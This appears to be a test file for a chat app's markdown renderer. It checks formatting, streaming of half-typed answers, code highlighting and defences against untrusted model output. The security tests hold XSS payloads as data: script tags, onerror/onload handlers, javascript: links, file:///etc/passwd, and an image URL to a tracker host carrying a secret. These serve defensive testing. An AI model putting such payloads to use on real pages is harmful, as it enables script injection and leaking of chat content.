import { render, screen, waitFor } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { describe, expect, it } from "vitest";
import { Blocks } from "../../src/chat/markdown/Blocks";
import { decodeEntities } from "../../src/chat/markdown/entities";
import { isOpenFence, lex } from "../../src/chat/markdown/lex";
import { safeLink } from "../../src/chat/markdown/urls";

const html = (text: string, streaming = false) =>
  render(<Blocks text={text} streaming={streaming} />).container;

describe("untrusted text", () => {
  it.each([
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    'Hello <a href="javascript:alert(1)" onclick="alert(1)">you</a>',
    "<iframe src='https://evil.example'></iframe>",
    "<style>body{display:none}</style>",
    "| a |\n|---|\n| <svg onload=alert(1)> |",
    "- <details open ontoggle=alert(1)>",
  ])("shows HTML as text: %s", (text) => {
    /** A model, or a page it read, could run scripts with the person's session. */
    const out = html(text);
    expect(out.querySelector("script, img, iframe, style, svg, details, [onclick], [onerror]")).toBeNull();
    expect(out.textContent).toContain("<");
  });

  it.each([
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,x",
    "vbscript:x",
    "file:///etc/passwd",
    "/api/keys",
    "blob:x",
    "java\tscript:alert(1)",
  ])("does not link to %s", (href) => {
    /** One click would run a script, or act inside the page. */
    expect(safeLink(href)).toBeNull();
    expect(html(`[x](<${href}>)`).querySelector("a")).toBeNull();
  });

  it("opens links apart, without saying where from", () => {
    /** The opened page could steer this one, or learn the address of a private chat. */
    const link = html("[docs](https://example.org/a?b=c)").querySelector("a");
    expect(link?.href).toBe("https://example.org/a?b=c");
    expect(link?.rel).toContain("noopener");
    expect(link?.rel).toContain("noreferrer");
    expect(link?.target).toBe("_blank");
  });

  it("never loads an image from elsewhere", () => {
    /** An image's address can carry a chat's content to a stranger's server. */
    const out = html("![chart](https://tracker.example/p.png?q=secret)");
    expect(out.querySelector("img")).toBeNull();
    expect(screen.getByRole("link", { name: "chart" })).toBeTruthy();
  });

  it("shows an image that is inside the text, but not a document", () => {
    /** A small picture that a tool made would be lost; an SVG could carry scripts. */
    expect(html("![dot](data:image/png;base64,AAAA)").querySelector("img")).toBeTruthy();
    expect(html("![dot](data:image/svg+xml;base64,AAAA)").querySelector("img")).toBeNull();
  });
});

describe("what models write", () => {
  it("draws the usual things", () => {
    /** Answers would be walls of symbols. */
    const out = html(
      "## Title\n\nSome **bold**, *em*, ~~no~~ and `code` &amp; more.\n\n1. one\n2. two\n\n> said\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n- [x] done",
    );
    for (const tag of [
      "h3",
      "strong",
      "em",
      "del",
      "code",
      "ol > li",
      "blockquote",
      "table td",
      "li.task input",
    ]) {
      expect(out.querySelector(tag), tag).toBeTruthy();
    }
    expect(out.textContent).toContain("& more");
  });

  it("keeps the number a list begins with", () => {
    /** A list that goes on after a code block would begin at 1 again. */
    expect(html("3. three").querySelector("ol")?.start).toBe(3);
  });

  it("draws formulas and leaves money alone", async () => {
    /** "$5 and $6" would turn into a formula, and formulas stay unread. */
    expect(lex("It is $5 and $6 there", false)[0]).toMatchObject({ tokens: [{ type: "text" }] });
    const out = html("So $a^2$ and \\(b\\).\n\n$$\nc\n$$");
    await waitFor(() => expect(out.querySelectorAll("math")).toHaveLength(3), { timeout: 5_000 });
  });

  it("decodes character references once", () => {
    /** "&amp;lt;" would become "<", or "&mdash;" be shown as typed. */
    expect(decodeEntities("&amp;lt; &mdash; &#8212; &#x2014; &unknown; &#0;")).toBe(
      "&lt; — — — &unknown; \ufffd",
    );
  });
});

describe("half an answer", () => {
  it("closes what is half-typed", () => {
    /** Words would flicker between ** and bold. */
    expect(html("Some **bo", true).querySelector("strong")?.textContent).toBe("bo");
    expect(html("See [the do", true).textContent).toBe("See the do");
  });

  it("knows an open fence from a closed one", () => {
    /** Code would be coloured at every token, and flicker. */
    expect(isOpenFence("```py\nx = 1")).toBe(true);
    expect(isOpenFence("```py\nx = 1\n```")).toBe(false);
    expect(isOpenFence("````md\n```\nx\n```")).toBe(true);
    expect(isOpenFence("~~~\nx\n```")).toBe(true);
    expect(isOpenFence("    indented")).toBe(false);
  });

  it("leaves settled blocks untouched when more comes", () => {
    /** A long answer would redraw as a whole at every flush, and text could not be selected. */
    const view = render(<Blocks text={"First.\n\nSecond"} streaming />);
    const first = view.container.querySelector("p");
    view.rerender(<Blocks text={"First.\n\nSecond grows"} streaming />);
    expect(view.container.querySelector("p")).toBe(first);
    expect(view.container.textContent).toContain("Second grows");
  });
});

describe("code", () => {
  it("is coloured once its fence is closed, and copies as written", async () => {
    /** Code would be grey, or the clipboard would hold something else. */
    const user = userEvent.setup();
    const view = render(<Blocks text={"```js\nconst a = 1;"} streaming />);
    expect(view.container.querySelector(".shiki-token")).toBeNull();
    view.rerender(<Blocks text={"```js\nconst a = 1;\n```"} />);
    await waitFor(() => expect(view.container.querySelector(".shiki-token")).toBeTruthy(), {
      timeout: 10_000,
    });
    expect(view.container.querySelector("pre")?.textContent).toBe("const a = 1;");
    await user.click(screen.getByRole("button", { name: "Copy" }));
    expect(await navigator.clipboard.readText()).toBe("const a = 1;");
  });

  it("in a language nobody knows stays plain", () => {
    /** An odd label would hide the code. */
    expect(html("```constructor\nx\n```").querySelector("pre")?.textContent).toBe("x");
  });
});
